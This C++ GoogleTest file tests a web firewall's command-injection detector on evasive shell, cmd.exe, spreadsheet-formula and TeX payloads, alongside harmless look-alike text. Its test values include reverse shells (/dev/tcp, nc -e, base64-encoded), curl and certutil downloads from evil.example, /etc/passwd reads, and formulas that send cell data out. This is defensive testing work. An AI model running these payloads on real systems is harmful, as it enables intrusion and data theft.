// Command injection by shell and cmd.exe grammar: evasions the collapser must undo and
// benign text with the same characters.
#include <gtest/gtest.h>

#include <initializer_list>
#include <string>

#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::HasRule;
using testing::InspectQueryValue;

// A bare command is an attack in a parameter named for commands, by the last part of its
// name ("opts.cmd", "a[0].command"); elsewhere "id" or "whoami" is a word.
TEST(CommandParameter, ABareCommandInACommandNamedParameterIsBlocked) {
  for (const char* key : {"cmd", "command", "exec", "CmdLine"}) {
    for (const std::string& body : {"{\"" + std::string(key) + "\":\"whoami\"}",
                                    "{\"opts\":{\"" + std::string(key) + "\":\"whoami\"}}",
                                    "{\"a\":[{\"" + std::string(key) + "\":\"whoami\"}]}"}) {
      Verdict v = testing::Inspect(testing::Post("/api", "application/json", body));
      EXPECT_TRUE(HasRule(v, "cmdi.command-parameter")) << body << " -> " << v.explanation;
    }
  }
  for (const char* body :
       {R"({"note":"whoami"})", R"({"opts":{"precmd":"whoami"}})", R"({"cmd.":"whoami"})",
        R"({"cmd":{"x":"whoami"}})", R"({"commandments":"whoami"})"}) {
    Verdict v = testing::Inspect(testing::Post("/api", "application/json", body));
    EXPECT_FALSE(HasRule(v, "cmdi.command-parameter")) << body << " -> " << v.explanation;
  }
}

class ShellEvasion : public ::testing::TestWithParam<const char*> {};
TEST_P(ShellEvasion, IsBlocked) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, ShellEvasion,
    ::testing::Values(
        // Empty substitutions and unset variables glued to a word.
        "$(whoami$())", "x; una$()me -a", "a; bash$FOO -c id", "|$nothing curl evil.example/x",
        // Glob classes in binary paths.
        "/usr/bin/[w]hoami", "/usr/sbin/[i]fconfig -a",
        // Brace expansion that builds the command.
        "{,whoami}", "{uname,-a}", "{l,-lh}s /tmp",
        // Quoted command names and a quote breaking out of the application's string.
        ";'wget' http://evil.example/x", "'nohup uname -a", "\"; \"curl\" evil.example/x",
        // Versioned interpreters, tool families, wrappers.
        ";python3.11 -c 'import os'", ";gcc12 -o /tmp/x x.c", ";docker-compose --version",
        "strace ifconfig", "nohup hostname -f",
        // Subshells and /dev/tcp redirection.
        "x=1&&(bash)0>/dev/tcp/192.0.2.1/4444",
        // A separator opening the value, then an unknown program with a command's arguments.
        ";frobnicate --output /tmp/x", "|sometool -rf /var/www",
        // Recon command followed by a separator.
        "uname;x", "whoami|nc 192.0.2.1 9",
        // Parameter expansion operators and $[...] arithmetic.
        "${PATH%%:*}", "${HOME#/}", "$[7*7]", "x|${PATH:0:1}bin${PATH:0:1}id",
        ";${HOME:0:1}etc${HOME:0:1}passwd",
        // alias definitions.
        "alias ll=whoami", "x; alias -p e=env",
        // Several chained commands, one with arguments.
        "cd /tmp;cd x;cat y",
        // Glob classes spelling a system path.
        "cat /etc/pa[s]swd", "type /[e]tc/[h]osts", "ls /[?]tc", "x=/[e//]tc",
        // A strong command with a flag after other words; a bare system binary path.
        "tcpdump any -w out", "/usr/bin/nc", "/bin/sh",
        // Bare Shellshock prefix.
        "() {",
        // Several flags before arguments that are no sentence.
        "nc -l -p 4444 -e /bin/sh", "wget -q -O- http://evil.example/x.sh",
        "cat -n -v /etc/hosts"));

class CmdExeGrammar : public ::testing::TestWithParam<const char*> {};
TEST_P(CmdExeGrammar, IsBlockedAsCommandInjection) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
  EXPECT_TRUE(HasCategory(v, Category::kCmdi)) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Statements, CmdExeGrammar,
    ::testing::Values(
        "IF EXIST c:\\boot.ini TYPE c:\\boot.ini", "if not exist x.txt echo gone",
        "IF ERRORLEVEL 1 GOTO fail", "IF CMDEXTVERSION 2 echo on", "if defined TEMP set X=1",
        "if a==a echo same", "IF /I x==X calc", "IF NOT x===x echo y",
        "if \"A B\" == \"A B\" echo same", "IF 3 GEQ 2 echo bigger", "if [x] == [x] echo same",
        "& FOR %%v IN (1,2) DO echo %%v", "| for /f \"tokens=1\" %i in ('ver') do echo %i",
        "for /l %x in (1,1,9) do ping -n 1 host", "FOR %~ IN (a)DO type x",
        "x & for /r c:\\ %f in (*.ini) do type %f",
        // Parenthesised conditions and blocks, prose-like FOR sets.
        "IF (3 GEQ 2) echo bigger", "if (x)==(x) echo same", "IF NOT DEFINED v (SET v=1)",
        "for %name in (set) do command", "FOR %d IN (Mon Tue Wed Thu Fri Sat Sun) DO echo %d"));

class CmdiTrickyBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(CmdiTrickyBenign, IsAllowed) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Text, CmdiTrickyBenign,
    ::testing::Values(
        // English and code with IF / FOR.
        "if defined by the user, the value wins", "if exists then we go", "if a == b: return a",
        "if (a==b) { run(); }", "if x == y then print(x) end",
        "for each item in the list do nothing", "for (i in list) do_it()",
        // Lists, regular expressions, route patterns, URLs.
        "Python; Java; Ruby; Go", "i'd start with http://example.org/tools/",
        "python is fun - really", "/usr/bin is a directory", "/[a-z]{1,5}/", "^[0-9]+$", "/[slug]",
        "/blog/[...slug]", "{date,time}", "{1,2,3}", "items[0] are in /home/user",
        "if (a==b) foo();", "x;\n if (typeof (func) === \"function\") run()",
        "http://askubuntu.com/questions/1/apt-get-keeps-failing-on-my-machine-help",
        "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0; ps-AF) Safari/534",
        // Template placeholders and prices.
        "Hello ${name}, your total is ${total}", "${a/b}", "costs $5 or $[sale]", "~+5 %",
        "server.port=${PORT:8080}", "${name:0}",
        // Prose with semicolons and pipes.
        "cats; dogs; more pets", "time | date | place", "x; time to go"));

}  // namespace
}  // namespace shieldx::detect

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::HasRule;
using testing::InspectAsForm;
using testing::InspectAsJson;
using testing::InspectQueryValue;

class WindowsAndCommandLineShapes : public ::testing::TestWithParam<const char*> {};
TEST_P(WindowsAndCommandLineShapes, IsBlockedAsCommandInjection) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam() << " -> " << v.explanation;
  EXPECT_TRUE(HasCategory(v, Category::kCmdi)) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, WindowsAndCommandLineShapes,
    ::testing::Values(
        // A bare drive after a Windows file command, '+' spaces glued to separators.
        "x | dir c:", "&&+|+dir c:/", "+dir+c:+|", "dir c:/", "type d:\\secret.txt",
        // A quote closing the application's string, then a command.
        "\" ping.exe -n 31 127.0.0.1", "' whoami /all",
        // A short strong command closed by a separator; a GNU long option.
        "id;", "cmd|", "perf --version",
        // One command line ended by a newline.
        "cscli alerts list\n", "ansible-config dump\n", "ansible all -m ping\n",
        // GNU long options after a separator; a backslash skipping aliases.
        ";perf --version", "\\ls", "\\whoami /all",
        // The batch-file FOR with the loop letter left out.
        "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\x.txt) DO ECHO %%",
        // A command with a flag and arguments, not a sentence after the flag.
        "ls -la", "chmod -R 777 /var/www", "grep -r password /etc/app",
        "nc -e /bin/sh 10.0.0.1 4444"));

class CommandLikeBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(CommandLikeBenign, IsAllowed) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_FALSE(Flagged(v)) << GetParam() << " -> " << v.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Text, CommandLikeBenign,
    ::testing::Values(
        // A drive-like "s:" after an unknown word; prose with "type" and a colon.
        "`chethan s:` check my alternate solution.", "blood type a: rare",
        // Interactive client transcripts in a support post.
        "then run this; mysql> grant select on db.* to 'u'@'%'; and it works", "ftp> get notes.txt",
        "Python; Ruby; Perl\n",
        // English with double dashes and a trailing newline.
        "time -- the essence\n", "apt-get --reinstall install mysql-server-x.x did the job for me.",
        "\\nothing to see", "C:\\temp\\new folder", "python\n", "curl up with a book",
        "id card|passport",
        // A whole shell script posted to an automation form.
        "#!/bin/sh\nset -x\nlscpu\ncat /proc/cpuinfo | head -n 5\nfdisk -l\n",
        // Release notes that open with a command and one of its flags.
        "grep -P no longer attempts multiline matches.",
        "ls -w0 is now interpreted as no limit on the length of the outputted line.",
        "chmod -R no longer exits with error status when encountering symlinks.",
        // ... with two or three flags, or a manual's placeholders.
        "cp -u -p would fail to preserve one hard link for each copy",
        "rm -i -d now prompts the user then removes an empty directory",
        "lua-load <file> This global directive loads and executes a Lua file",
        "node <name> Only letters, digits, hyphen and underscore are allowed"));

// CI/ops forms: Dockerfiles and YAML pipelines carry commands by design, like a shebang script.
class OpsDocumentBenign : public ::testing::TestWithParam<const char*> {};
TEST_P(OpsDocumentBenign, IsAllowedInFormAndJson) {
  Verdict f = InspectAsForm(GetParam());
  EXPECT_FALSE(Flagged(f)) << GetParam() << " -> " << f.explanation;
  Verdict j = InspectAsJson(GetParam());
  EXPECT_FALSE(Flagged(j)) << GetParam() << " -> " << j.explanation;
}
INSTANTIATE_TEST_SUITE_P(
    Documents, OpsDocumentBenign,
    ::testing::Values(
        "FROM python:3.12-slim\nWORKDIR /app\nCOPY . .\nRUN pip install -r requirements.txt && "
        "rm -rf /root/.cache\nCMD [\"gunicorn\", \"app:app\"]\n",
        "- name: Deploy\n  run: |\n    echo \"${{ secrets.KEY }}\" > key.pem\n    chmod 600 "
        "key.pem\n    scp -i key.pem dist/* deploy@host:/var/www/html/\n",
        "steps:\n  - run: npm ci\n  - run: npm test -- --coverage\n  - run: ./scripts/deploy.sh "
        "--env=staging\n",
        "services:\n  db:\n    image: postgres:16\n    healthcheck:\n      test: [\"CMD-SHELL\", "
        "\"pg_isready -U postgres\"]\n",
        "Traceback (most recent call last):\n  File \"/home/ci/app/run.py\", line 12, in <module>\n"
        "    main()\n  File \"/usr/lib/python3.11/subprocess.py\", line 571, in run\n"
        "    raise CalledProcessError(retcode, process.args,\n",  // Prose, cron lines and registry
                                                                  // paths from tickets.
        "After the deploy I ran `sudo systemctl restart nginx` and then `tail -f "
        "/var/log/nginx/error.log`, still 502s.",
        "Fixed it with chmod 600 ~/.ssh/id_rsa, ssh was refusing the key because of permissions",
        "0 3 * * 1-5", "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
        "reg add HKCU\\Software\\Policies\\Microsoft\\Windows\\Explorer /v "
        "DisableSearchBoxSuggestions "
        "/t REG_DWORD /d 1",
        "set JAVA_HOME=C:\\Program Files\\Java\\jdk-17 and echo %JAVA_HOME% to verify",
        // Per-user Windows locations in a path, as tickets and settings name them.
        "Logs are in C:\\ProgramData\\App\\logs and config in %APPDATA%\\App\\config.json",
        "%USERPROFILE%\\Documents\\Visual Studio 2022\\Projects",
        // A per-user location alone, as a setting's value.
        "%TEMP%", "%USERPROFILE%",
        // The system drive as a path root, and a location after a command word with no
        // separator before it.
        "%SystemDrive%\\inetpub\\logs", "logs are in %SystemDrive%\\inetpub\\logs",
        "copy to %APPDATA%\\App",
        // Version constraints: ">=" after a name is no redirect into a file named "=18".
        "node>=18", "python>=3.8,<4", "python<=3.11", "react>=18 <19"));

// The shell and a program reached through a variable stay an injection; so does a file
// location read by a cmd.exe command right after a separator (CRS 942100).
TEST(WindowsVariable, ShellOrProgramThroughAVariableIsBlocked) {
  for (const char* v :
       {"%temp%\\x.exe", "%comspec% /c dir", "& %APPDATA%\\evil.bat", "%COMSPEC%", "echo %TEMP%",
        "id>/tmp/x", "ls >/tmp/out", "\" | type %SystemDrive%\\config.ini | \"",
        "x | type %appdata%\\x.txt", "a; copy %USERPROFILE%\\x.txt"}) {
    Verdict r = InspectAsForm(v);
    EXPECT_TRUE(HasCategory(r, Category::kCmdi) && Flagged(r)) << v << " -> " << r.explanation;
  }
}

// A base64 blob's '+' and '/' are data: random bytes encode to "...gfoe/Rm+MnASH...", which the
// shell reading took for a path to rm with an argument. A command encoded in base64 is still
// found in the decoded value.
TEST(Base64Blob, ItsAlphabetIsNoShellSyntax) {
  Verdict v = testing::InspectAsJson(
      "+Xe9YBVnxqvJrjFSFGjvd4piWBFChXjCb13gAG4jo6bTryV4ubXCzmCYYIxNW0GfOe/Rm+MnASHBGWtvGjjiYg==");
  EXPECT_FALSE(Flagged(v)) << v.explanation;
  for (const char* b64 :
       {"YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjE=",  // bash -i >& ...
        "O2NhdCAvZXRjL3Bhc3N3ZDtpZDt1bmFtZSAtYTt3aG9hbWk="}) {   // ;cat /etc/passwd
    Verdict r = InspectQueryValue(b64);
    EXPECT_TRUE(Flagged(r)) << b64 << " -> " << r.explanation;
  }
  // Paths and commands with '+' for spaces are no blob.
  for (const char* value : {"/bin/sh+-c+id+x+y+z+aaaaaaaaaaaaaaaaaaaaaaaaaaaa", "x;+id"}) {
    Verdict r = InspectAsJson(value);
    EXPECT_TRUE(HasCategory(r, Category::kCmdi)) << value << " -> " << r.explanation;
  }
}

// A command with flags followed by a CJK sentence is a question about it; a separator and a
// command after it still are an injection.
TEST(CjkProse, ACommandNamedInACjkSentenceIsAllowed) {
  Verdict v = InspectAsForm("ls -la の結果が表示されません");
  EXPECT_FALSE(Flagged(v)) << v.explanation;
  for (const char* value : {"ls -la /etc;id 中文", "x;ls -la の結果;id"}) {
    Verdict r = InspectAsForm(value);
    EXPECT_TRUE(HasCategory(r, Category::kCmdi) && Flagged(r)) << value << " -> " << r.explanation;
  }
}

// Two key lines do not make a document; an injection after them is still judged.
TEST(OpsDocument, ShortYamlPrefixDoesNotExcuseAnInjection) {
  Verdict v = InspectAsForm("a: b\n;cat /etc/passwd");
  EXPECT_TRUE(Flagged(v)) << v.explanation;
  Verdict w = InspectAsForm("name: x\n| nc -e /bin/sh 10.0.0.1 4444");
  EXPECT_TRUE(HasCategory(w, Category::kCmdi) && Flagged(w)) << w.explanation;
}

// Each value posted as a form field is allowed, or blocked as command injection.
void ExpectFormAllowed(std::initializer_list<const char*> values) {
  testing::ExpectAllAllowed(testing::InspectAsForm, values);
}
void ExpectFormCmdi(std::initializer_list<const char*> values) {
  testing::ExpectAllBlockedAs(testing::InspectAsForm, Category::kCmdi, values);
}

// A weak command word alone at the end after a separator is a probe ("x;ls", "x|cd"); a
// one-letter one ends generated passwords as often ("k3…;W"), so it needs more around it.
TEST(ShortCommand, OneLetterWordAtTheEndIsNotEnough) {
  ExpectFormAllowed({"x;w", "abc;W", "q8]p|w"});
  ExpectFormCmdi({"x|cd", "x;ls", "x;w;id"});
}

// A program named by a path is a command when the path leads where programs run from (the
// root, ".", "~", a drive, a bin directory); "owner/name" with a program's name at the end is
// a repository, a container image or a package ("nodejs/node", "library/python").
TEST(ProgramPath, ARelativeProjectPathIsNoProgram) {
  ExpectFormAllowed({"nodejs/node", "library/python", "curl/curl", "@types/node", "tools/wget"});
  ExpectFormCmdi(
      {"/usr/bin/node", "./node", "bin/node", "~/bin/python", "usr/bin/id", "../../bin/sh"});
}

// Markdown fences ("```bash") are no substitutions and their language tag no command: the
// enclosed lines are judged as lines; inside a sentence (three words outside the block) the
// block is a quotation. Backticks that are not a fence line still substitute.
TEST(MarkdownFence, FenceLinesAreNoSubstitution) {
  ExpectFormAllowed(
      {"```python\nprint('hi')\n```", "Run this:\n```\nnpm run build\n```\nthen reload",
       "To deploy, run:\n```bash\ncd app && make && ./deploy.sh --prod\n```\nand check "
       "the logs.",
       "  ```js\nconst x = 1;\n  ```"});
  ExpectFormCmdi({"```\n;cat /etc/passwd\n```", "```\n`id`\n```", "x```id```", "```id```",
                  "a\n```id```", "```\n$(curl evil.example/a.sh|sh)\n```", "```bash\nls -la\n```"});
}

// A name in angle brackets is a placeholder or a traceback's frame name, not a redirection
// (as shell, "<module>" redirects into nothing); a real redirection still is one.
TEST(Redirection, AnglePlaceholderIsNoRedirection) {
  ExpectFormAllowed({"Stack trace:\r\n  File \"app.py\", line 12, in <module>\r\n    import x",
                     "usage: cp <src> <dst>", "x\nfile a <b>"});
  ExpectFormCmdi({"x\nfile a < b", "x;cat </etc/passwd", "x;cat<x>y"});
}

// The words of a URL or a path do not make a command line a sentence: a download with a long
// URL stays a command, while prose with a URL and a separator stays prose. A known program
// named with ".exe" is that program.
TEST(ProseWords, UrlAndPathPartsAreNoWords) {
  for (const char* v : {"& certutil -urlcache -split -f http://evil.example/a.exe a.exe",
                        "x;curl http://evil.example/a/b/c/d.sh -o /tmp/a.sh",
                        "&& certutil.exe -urlcache -f http://evil.example/a a", "& NET.EXE user",
                        "| reg.exe query HKLM"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(HasCategory(r, Category::kCmdi) && Flagged(r)) << v << " -> " << r.explanation;
  }
  for (const char* v :
       {"See the guide at https://docs.example.com/setup/install/linux/steps and read it; then "
        "restart the service and check the logs",
        "I tried the mirror at http://mirror.example.org/debian/pool/main/ but | it failed with "
        "an error again and again",
        "Download from https://example.com/files/report.pdf & share the link with the whole team "
        "by friday please",
        "see setup.exe for details", "run installer.exe then reboot", "copy.exe"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
  }
}

// Command words as long as a value without spaces. Past 64 bytes (quotes read away) a name
// is a command only as a strong command's name with a version; path prefixes and quotes of
// any length are read away first.
TEST(LongCommandWord, VersionedInterpreterPathAndQuotesAreStillCommands) {
  const std::string digits(80, '3');
  for (const std::string& v :
       {"x; python" + digits + " -c 'import os'", "x; p'y't'h'o'n" + digits + " -c 'import os'",
        "x; python" + std::string(40, '3') + "." + std::string(40, '1') + " -c x",
        "x; /usr/local/" + std::string(80, 'b') + "/whoami", std::string(80, 'c') + ";x; whoami -a",
        "x; env A=1 B=2 python" + digits + " -V", std::string("x; 's'u'd'o' id"),
        std::string("x;${shell} -c id")}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(HasCategory(r, Category::kCmdi) && Flagged(r)) << v << " -> " << r.explanation;
  }
}

TEST(LongCommandWord, LongWordsWithoutACommandAreAllowed) {
  for (const std::string& v :
       {"x; " + std::string(100, 'a') + " -c x", "x; python" + std::string(80, 'x') + " -c x",
        ";" + std::string(40, 'f') + " --output /tmp/x",
        "{\"k\":\"" + std::string(3000, 'v') + "\",\"cmd\":\"ls\"}",
        "note|" + std::string(5000, 'x'), "x;'" + std::string(100, 'y') + "' -rf /"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_FALSE(Flagged(r)) << v.substr(0, 80) << " -> " << r.explanation;
  }
}

// Web shells and command runners take the command in an argument named for it: there a
// reconnaissance command alone, or any command with arguments, is the attack. File managers
// that name their actions "cmd" (elFinder: cmd=ls, cmd=rm, cmd=mkdir) and ordinary words
// pass, and the same bare words in other arguments stay words.
TEST(CommandParameter, ReconnaissanceAndCommandsWithArgumentsAreBlocked) {
  for (const char* q : {"/shell.php?cmd=id", "/x.jsp?cmd=whoami", "/a?exec=ipconfig",
                        "/a?command=uname", "/a?cmd=ls%20-la", "/a?shell=dir%20c:%5C"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_TRUE(HasCategory(v, Category::kCmdi) && Flagged(v)) << q << " -> " << v.explanation;
  }
  Verdict form = testing::Inspect(
      testing::Post("/x.php", "application/x-www-form-urlencoded", "pass=1&cmd=whoami"));
  EXPECT_TRUE(Flagged(form)) << form.explanation;
  for (const char* q :
       {"/connector?cmd=ls&target=l1_Lw", "/connector?cmd=rm&targets[]=l1_YQ", "/c?cmd=mkdir",
        "/c?cmd=open&init=1", "/c?cmd=tree", "/c?cmd=ping", "/c?command=save", "/c?cmd=dir",
        "/search?q=whoami", "/search?q=id", "/c?cmd=cat%20notes.txt"}) {
    Verdict v = testing::Inspect(testing::Get(q));
    EXPECT_FALSE(Flagged(v)) << q << " -> " << v.explanation;
  }
}

// A glob in an absolute path makes a program only in the program's name (/???/c?t); route
// patterns with a glob in a directory ("/api/*/items") name no program.
TEST(GlobbedPaths, OnlyAGlobbedProgramNameIsACommand) {
  for (const char* value : {"/\?\?\?/c?t /etc/passwd", "/bin/c* /etc/hosts", "/usr/bin/[w]hoami"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kCmdi) && Flagged(v)) << value << " -> " << v.explanation;
  }
  for (const char* value : {"/api/*/items", "/routes/*/edit", "/docs/?/index"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// The globbed name sits in a binary directory or a globbed one; a relative URL whose query
// mark reads as a glob ("/account?tab", "/products/list?") names no program.
TEST(GlobbedPaths, TheProgramLivesInABinaryOrGlobbedDirectory) {
  for (const char* value : {"/usr/bin/wh?ami", "/bin/ca? /etc/passwd", "/u*/b?n/wh?ami",
                            "/sbin/ifconf?g", "/usr/local/bin/p?thon -V"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kCmdi) && Flagged(v)) << value << " -> " << v.explanation;
  }
  for (const char* value : {"/account?tab", "/products/list?", "/a/b?c", "/17?OSX-)5w>"}) {
    Verdict v = InspectAsForm(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// A spreadsheet formula that launches a program through DDE, and TeX's shell escape, run
// commands when the value is opened in Excel or rendered to PDF; ordinary formulas and TeX
// markup pass.
TEST(CommandInDocuments, DdeFormulasAndTexShellEscapesAreBlocked) {
  for (const char* value : {"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                            "+powershell|'-nop -c iwr evil.example'!A1", "\\immediate\\write18{id}",
                            "\\write18 {curl evil.example|sh}"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasCategory(v, Category::kCmdi) && Flagged(v)) << value << " -> " << v.explanation;
  }
  for (const char* value : {"=SUM(A1:A3)", "=A1|'x'!B2", "-5 |'x'!", "\\write18 is a TeX primitive",
                            "\\documentclass{article}\\begin{document}x\\end{document}"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(Flagged(v)) << value << " -> " << v.explanation;
  }
}

// A value that is a formula fetching a URL sends the sheet's cells there once the export is
// opened (HYPERLINK, WEBSERVICE, IMPORTXML...); the same words in prose, a list item, or a
// formula that fetches nothing pass.
TEST(CommandInDocuments, SpreadsheetFormulasThatFetchAUrlAreBlocked) {
  for (const char* value : {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")",
                            "=WEBSERVICE(\"https://evil.example/\"&B2)",
                            "+IMPORTXML(CONCAT(\"http://evil.example/?\",A1:B9),\"//a\")",
                            "@IMAGE(\"//evil.example/p.png?\"&C3)"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(HasRule(v, "cmdi.spreadsheet-fetch") && Flagged(v))
        << value << " -> " << v.explanation;
  }
  for (const char* value :
       {"- Image (from https://unsplash.com/photos/x)", "=HYPERLINK(A1,\"open\")",
        "Use =HYPERLINK(\"https://x.example\") in Excel", "=SUM(A1:A3)", "-image(1)"}) {
    Verdict v = InspectQueryValue(value);
    EXPECT_FALSE(HasRule(v, "cmdi.spreadsheet-fetch")) << value << " -> " << v.explanation;
  }
}

// The same formula opening a cell of an uploaded CSV or TSV document (after a line break,
// a comma, a semicolon or a tab, and an optional quote). A cell that only mentions a pipe,
// or an ordinary formula, passes.
TEST(CommandInDocuments, DdeFormulaInACsvCellIsBlocked) {
  for (const char* body : {"name,email\n=cmd|' /C calc'!A0,x@y.z\n",
                           "name;note\nbob;\"@SUM(1+1)*cmd|' /C calc'!A0\"\n",
                           "a\tb\n1\t+powershell|'-nop -c iwr e.example'!A1\n"}) {
    Verdict v = testing::Inspect(testing::Post("/import", "text/csv", body));
    EXPECT_TRUE(HasCategory(v, Category::kCmdi) && Flagged(v)) << body << " -> " << v.explanation;
  }
  for (const char* body : {"name,formula\nbob,=SUM(A1:A3)\nann,-5\n",
                           "cmd,desc\nls,\"list | sort\"\n", "a,b\nx,run cmd|' later'!\n"}) {
    Verdict v = testing::Inspect(testing::Post("/import", "text/csv", body));
    EXPECT_FALSE(Flagged(v)) << body << " -> " << v.explanation;
  }
}

}  // namespace
}  // namespace shieldx::detect
